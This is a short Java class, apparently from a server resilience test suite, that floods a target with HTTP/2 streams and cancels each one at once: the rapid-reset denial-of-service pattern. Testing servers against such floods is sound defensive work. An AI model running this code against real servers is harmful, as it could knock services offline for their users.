package dev.leantokens.attacks;

import java.io.OutputStream;

import dev.leantokens.testing.RawHttp;
import dev.leantokens.testing.RawHttp2;

/** Opens HTTP/2 streams and cancels each at once. */
final class CancelledStreams implements Attack {

    private static final int CONNECTIONS = 4;
    private static final int STREAMS = 5_000;

    @Override
    public void start(Attacker attacker) {
        attacker.keepTalking(CONNECTIONS, RawHttp.ELSEWHERE, attacker.target().port(), socket -> {
            OutputStream out = socket.getOutputStream();
            out.write(new RawHttp2().preface(65_535).bytes());
            for (int i = 0; i < STREAMS; i++) {
                out.write(new RawHttp2().get(2 * i + 1, "/q/metrics").cancel(2 * i + 1).bytes());
                attacker.outcomes().sent(1);
            }
            socket.getInputStream().readAllBytes();
            attacker.outcomes().got("closed");
        });
    }
}
